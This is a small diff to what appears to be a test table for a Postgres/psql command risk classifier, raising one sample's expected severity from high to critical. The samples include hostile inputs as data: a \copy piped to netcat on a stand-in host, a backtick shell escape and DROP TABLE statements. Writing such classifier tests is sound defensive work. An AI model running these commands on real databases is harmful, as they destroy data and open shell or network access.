@@ -13,7 +13,7 @@ LEVELS = {
         ("critical", "postgres", r"\copy orders to program 'nc x.example 1'"),
         ("critical", "postgres", r"\set x `id`"),
         ("high", "postgres", r"\i /tmp/other.sql"),
-        ("high", "postgres", r"SELECT 'DROP TABLE a' \gexec"),
+        ("critical", "postgres", r"SELECT 'DROP TABLE a' \gexec"),
         ("safe", "postgres", "\\d orders\n\\timing on\nSELECT 1;"),
         ("critical", "postgres", "\\x \\\\ DROP TABLE orders;"),
         ("low", "postgres", r"\copy (SELECT 1) TO 'report.csv' CSV"),
